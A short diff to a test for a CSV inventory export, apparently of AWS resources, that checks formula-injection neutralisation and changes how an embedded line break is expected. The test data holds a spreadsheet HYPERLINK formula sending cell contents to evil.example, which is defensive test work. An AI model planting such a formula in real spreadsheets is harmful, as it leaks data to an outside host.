@@ -57,6 +57,6 @@ describe('CSV inventory', () => {
   it('neutralises formula injection and keeps embedded line breaks inside one field', () => {
     const endpoint = byId.get('arn:aws:sagemaker:eu-west-1:111122223333:endpoint/fraud-scoring')!;
     expect(endpoint.name).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"x")`);
-    expect(endpoint.tags).toBe('note=a,b\r\nc');
+    expect(endpoint.tags).toBe('note=a,b\nc'); // CRLF inside a cell is written as LF
   });
 });
